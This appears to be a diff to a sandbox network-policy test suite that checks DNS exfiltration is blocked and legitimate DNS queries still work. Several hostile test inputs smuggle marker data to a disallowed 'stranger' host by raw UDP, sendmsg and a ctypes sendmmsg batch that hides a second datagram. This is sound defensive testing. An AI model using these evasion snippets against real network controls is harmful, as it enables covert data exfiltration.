@@ -24,6 +24,28 @@ except OSError as error:
 """
 
 
+# A question of an allowed name, and data for somebody else, by one sendmmsg.
+MANY = """
+import ctypes
+class Piece(ctypes.Structure): _fields_ = [("base", ctypes.c_char_p), ("size", ctypes.c_size_t)]
+class Message(ctypes.Structure):
+    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint),
+                ("iov", ctypes.POINTER(Piece)), ("count", ctypes.c_size_t),
+                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
+                ("flags", ctypes.c_int), ("_", ctypes.c_uint), ("sent", ctypes.c_uint)]
+def message(data, ip, port):
+    name = struct.pack("=H", 2) + struct.pack(">H", port) + socket.inet_aton(ip) + bytes(8)
+    kept.append((name, Piece(data, len(data)), data))
+    return Message(name, 16, ctypes.pointer(kept[-1][1]), 1)
+kept = []
+batch = (Message * 2)(message(question("recorder.test"), "%s", 53),
+                      message(NAME.encode(), "%s", 443))
+s = socket.socket(2, 2)
+print(ctypes.CDLL(None).sendmmsg(s.fileno(), batch, 2, 0), s.recv(500)[:2])
+ctypes.CDLL(None).sendmmsg(s.fileno(), ctypes.byref(batch[1]), 1, 0)
+"""
+
+
 class Exfiltration(HostileCase):
     def setUp(self):
         super().setUp()
@@ -46,6 +68,15 @@ class Exfiltration(HostileCase):
     def test_LabelsByAnAddressedDatagram(self):
         self.asks("s = socket.socket(2, 2); s.settimeout(3); "
                   "s.sendto(question(NAME, 16), (RESOLVER, 53)); s.recv(500)")
+
+    def test_LabelsByAnAddressedMessage(self):
+        self.asks("s = socket.socket(2, 2); s.settimeout(3); q = question(NAME, 16); "
+                  "s.sendmsg([q[:9], q[9:]], [], 0, (RESOLVER, 53)); s.recv(500)")
+
+    def test_LabelsByAConnectedSocketThatAddressesItsQuestion(self):
+        self.asks("o = socket.socket(2, 2); o.bind(('127.0.0.1', 0)); s = socket.socket(2, 2); "
+                  "s.bind(('', 0)); s.connect(o.getsockname()); "
+                  "s.sendto(question(NAME, 16), (RESOLVER, 53))")
 
     def test_LabelsByAConnectedDatagram(self):
         self.asks("s = socket.socket(2, 2); s.settimeout(3); s.connect((RESOLVER, 53)); "
@@ -85,7 +116,33 @@ class Exfiltration(HostileCase):
         self.python_refused(ASK % (STRANGER, self.name,
                                    "s = socket.socket(2, 2); s.settimeout(1); "
                                    "s.sendto(question(NAME), (RESOLVER, 53)); s.recv(500)"),
-                            reached, [STRANGER, self.name])
+                            reached, [self.name])
+
+    def test_DataThatIsNoQuestion(self):
+        udp, _ = self.sinks(STRANGER, 53)
+
+        def reached():
+            found = udp.count(self.marker.encode(), timeout=1) > 0
+            udp.clear()
+            return found
+
+        for how in ("s.sendto(NAME.encode(), (RESOLVER, 53))",
+                    "s.sendmsg([NAME.encode(), b'x' * 60000], [], 0, (RESOLVER, 53))",
+                    "s.sendto(question('recorder.test') + NAME.encode(), (RESOLVER, 53))"):
+            self.python_refused(ASK % (STRANGER, self.name, "s = socket.socket(2, 2); " + how),
+                                reached, [STRANGER, "network.no-dns-query"])
+
+    def test_ManyMessagesOfWhichOneIsNoQuestion(self):
+        udp = UdpSink(STRANGER, 443)
+        self.addCleanup(udp.close)
+
+        def reached():
+            found = udp.count(self.marker.encode(), timeout=1) > 0
+            udp.clear()
+            return found
+
+        self.python_refused(ASK % (RESOLVER, self.name, "exec(%r)" % MANY % (
+            RESOLVER, STRANGER)), reached, [STRANGER])
 
     def test_DnsOverTls(self):
         _, tcp = self.sinks(RESOLVER, 853)
@@ -225,6 +282,89 @@ try:
 except OSError as error: print("no:", error)
 """ % (STRANGER, self.marker), lambda: self.marker in self.net.stranger_plain.received(),
                             [STRANGER])
+
+
+QUESTIONS = """
+import os, socket, struct, threading
+RESOLVER = "%s"
+def question(number, name="recorder.test", kind=1):
+    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
+    return struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
+def family(kind=socket.AF_INET):
+    s = socket.socket(kind, socket.SOCK_DGRAM); s.settimeout(5)
+    return s
+def told(data, source): return data[:2], data[3] & 15, data[-4:], source[:2]
+def plain(s, number, server, receive=None):
+    s.sendto(question(number), server)
+    return told(*(receive or (lambda: s.recvfrom(512)))())
+def by_message(s, number, server):
+    q = question(number)
+    s.sendmsg([q[:1], q[1:20], q[20:]], [], 0, server)
+    data, _, _, source = s.recvmsg(512)
+    return told(data, source)
+""" % RESOLVER
+
+
+class Addressed(BenignCase):
+    """Questions in datagrams that name their server: the answer comes, and from whom was asked."""
+
+    allowed = ("recorder.test", "missing.test")
+
+    def asks(self, script):
+        self.python(QUESTIONS + script)
+
+    def test_TheAnswerHasTheSourceThatWasAsked(self):
+        self.asks("print(plain(family(), 258, (RESOLVER, 53)))")
+
+    def test_ByMessages(self):
+        self.asks("print(by_message(family(), 7, (RESOLVER, 53)))")
+
+    def test_OverIpv6(self):
+        self.asks("""
+mapped = ("::ffff:" + RESOLVER, 53)
+print(plain(family(socket.AF_INET6), 9, mapped), by_message(family(socket.AF_INET6), 10, mapped))
+""")
+
+    def test_AMissingNameIsAnsweredToo(self):
+        self.asks("""
+s = family(); s.sendto(question(3, "missing.test"), (RESOLVER, 53))
+data, source = s.recvfrom(512); print(data[:2], data[3] & 15, source)
+""")
+
+    def test_FromABoundSocketAndIntoABuffer(self):
+        self.asks("""
+s = family(); s.bind(("", 0)); room = bytearray(300)
+def receive():
+    size, source = s.recvfrom_into(room)
+    return bytes(room[:size]), source
+print(plain(s, 11, (RESOLVER, 53), receive), plain(s, 12, (RESOLVER, 53), receive))
+""")
+
+    def test_ManyAtOnceAndInChildren(self):
+        self.asks("""
+wrong = []
+def work(base):
+    s = family()
+    for i in range(20):
+        got = plain(s, base + i, (RESOLVER, 53))
+        if got[0] != struct.pack(">H", base + i) or got[3] != (RESOLVER, 53): wrong.append(got)
+def all_of_them():
+    threads = [threading.Thread(target=work, args=(n * 1000,)) for n in range(4)]
+    for t in threads: t.start()
+    for t in threads: t.join()
+    return wrong
+if os.fork() == 0: os._exit(len(all_of_them()))
+print(all_of_them(), os.wait()[1])
+""")
+
+    def test_OthersThanDnsKeepTheirSource(self):
+        self.asks("""
+a, b = family(), family(); b.bind(("127.0.0.1", 0))
+print(plain(a, 513, (RESOLVER, 53)))
+a.sendto(b"hello", b.getsockname()); data, peer = b.recvfrom(100)
+b.sendto(data, peer); data, source = a.recvfrom(100)
+print(data, source == b.getsockname())
+""")
 
 
 class Unreliable(BenignCase):
